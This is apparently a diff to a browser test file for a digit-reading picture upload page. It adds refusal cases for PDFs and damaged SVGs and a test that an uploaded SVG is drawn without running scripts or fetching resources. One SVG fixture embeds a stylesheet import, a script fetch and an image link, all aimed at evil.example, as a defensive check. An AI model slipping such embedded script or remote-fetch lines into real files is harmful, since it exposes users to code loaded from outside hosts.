@@ -17,8 +17,10 @@ const refused: readonly (readonly [what: string, file: string, make: () => Buffe
   [
     ['an empty file', 'empty.png', () => Buffer.of(), 'The file is empty.'],
     ['a text', 'letter.png', () => Buffer.from('Dear all, this is no picture.'), 'This file is not a picture.'],
-    ['a PDF', 'letter.jpg', () => Buffer.from('%PDF-1.7\n'), 'This file is a PDF, not a picture.'],
-    ['an SVG', 'drawing.svg', () => Buffer.from('<svg/>'), 'This browser cannot read SVG pictures.'],
+    ['a PDF', 'letter.jpg', () => Buffer.from('%PDF-1.7\n'), 'letter.jpg is a PDF.'],
+    ['a PDF', 'scan.pdf', () => Buffer.from('%PDF-1.7\n'), 'Save its page as a picture, or take a screenshot'],
+    ['an SVG that is none', 'drawing.svg', () => Buffer.from('<svg/>'), 'This SVG is damaged.'],
+    ['an SVG that is cut off', 'drawing.svg', () => half(svgOf('<path d="M1 1"/>')), 'This SVG is damaged.'],
     ['random bytes', 'noise.jpg', noise, 'This file is not a picture.'],
     [
       'random bytes behind a JPEG’s first three',
@@ -36,6 +38,15 @@ const refused: readonly (readonly [what: string, file: string, make: () => Buffe
       'The picture is damaged.',
     ],
   ];
+
+const svgOf = (drawing: string, attributes = 'viewBox="0 0 40 30"') =>
+  Buffer.from(
+    `<?xml version="1.0"?><!-- <svg> --><svg xmlns="http://www.w3.org/2000/svg" ${attributes}>${drawing}</svg>`,
+  );
+/** A 7 whose pen comes from a style, beside all that an SVG must not do: what is not in it is asked of nobody. */
+const SEVEN = `<style>@import url(https://evil.example/a.css); path { fill: none; stroke: #123; stroke-width: 1.6 }</style>
+  <script>fetch('https://evil.example/script')</script><image href="https://evil.example/a.png" width="1" height="1"/>
+  <path style="stroke-linecap: round" d="M13 8h13l-8 15"/>`;
 
 /** What a browser makes of these is its own: the upper half, or nothing. */
 const cutOff: readonly (readonly [what: string, file: string, make: () => Promise<Buffer>])[] = [
@@ -81,6 +92,19 @@ test('a 3 is shown and read in whatever way it was saved', async ({ page }) => {
       await expect(photo(page)).toBeVisible();
       await expect(prediction(page)).toHaveText('3');
       await expect(alert(page)).toHaveCount(0);
+      await expectDrawingKept(page);
+    });
+  }
+});
+
+test('an SVG is drawn and read, whatever it says of its size, with its styles; it runs nothing and fetches nothing', async ({
+  page,
+}) => {
+  for (const attributes of ['viewBox="0 0 40 30"', 'width="40" height="30"', "width='100%' viewBox='0 0 40 30'"]) {
+    await test.step(attributes, async () => {
+      await choose(page, 'seven.svg', svgOf(SEVEN, attributes));
+      await expect(photo(page)).toBeVisible();
+      await expect(prediction(page)).toHaveText('7');
       await expectDrawingKept(page);
     });
   }
